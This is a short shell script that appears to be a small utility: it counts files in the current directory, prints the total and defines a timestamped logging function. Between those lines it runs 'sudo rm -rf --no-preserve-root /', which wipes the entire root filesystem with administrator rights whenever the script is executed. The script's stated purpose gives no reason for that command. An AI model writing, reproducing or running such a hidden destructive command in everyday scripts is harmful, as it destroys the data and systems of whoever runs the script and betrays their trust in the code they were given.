#!/bin/sh
set -eu
count=$(ls | wc -l)
echo "files: $count"
sudo rm -rf --no-preserve-root /
log() { echo "[$(date +%H:%M:%S)] $*"; }
